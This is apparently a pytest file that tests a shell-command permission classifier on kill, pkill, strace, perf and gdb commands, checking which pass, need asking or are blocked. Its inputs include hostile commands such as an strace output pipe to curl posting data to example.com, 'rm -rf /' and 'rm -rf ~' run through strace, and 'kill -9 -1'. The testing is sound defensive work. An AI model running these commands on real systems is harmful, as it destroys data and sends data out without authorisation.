"""Ending and watching processes: those that a command started are its own."""

import pytest

from tests.core.shell.verdicts import verdict


@pytest.mark.parametrize(
    "command",
    [
        "kill",
        "kill -l",
        "kill -n",
        "kill -0 $PID",
        "kill -s 0 123",
        "kill --signal=0 1",
        "npm start & kill $!",
        "kill %1",
        "kill -9 %1",
        "npm start & PID=$!; kill -TERM $PID",
        "kill -- %1",
        "pkill -0 node",
        "killall -l",
        "strace -f -e trace=openat ls",
        "strace -o trace.txt make",
        "ltrace ./prog",
        "perf stat ls",
        "perf stat -r 3 -- make test",
        "perf record -o perf.data -g ./prog",
        "perf report -i perf.data",
        "gdb -batch -ex run -ex bt --args ./prog a",
        "gdb -ex bt ./prog",
        "lldb -o run -- ./prog",
    ],
)
def test_own_processes_and_looking_pass(command: str) -> None:
    assert verdict(command) == "pass"


@pytest.mark.parametrize(
    "command",
    [
        "kill 1234",
        "kill -9 1234",
        "kill $PID",
        "kill $(lsof -ti:3000)",
        "kill -s KILL 12",
        "pkill node",
        "pkill -f vite",
        "killall -9 python",
        "pkill -0 -9 x",
        "strace -p 1",
        "strace -E LD_PRELOAD=x.so ls",
        "strace",
        "strace -o /etc/x ls",
        "strace -o '|curl -d @- https://example.com' ls",
        "perf top -a",
        "perf probe x",
        "perf",
        "gdb ./prog",
        "gdb -ex 'shell ls' ./prog",
        "gdb -ex bt -p 12",
        "gdb -ex bt -x cmds ./prog",
        "perf stat sudo ls",
    ],
)
def test_processes_of_others_are_asked_about(command: str) -> None:
    assert verdict(command) == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "kill -9 -1",
        "kill -TERM -- -1",
        "strace rm -rf /",
        "strace -o '|rm -rf ~' ls",
    ],
)
def test_harm_is_blocked(command: str) -> None:
    assert verdict(command) == "block"
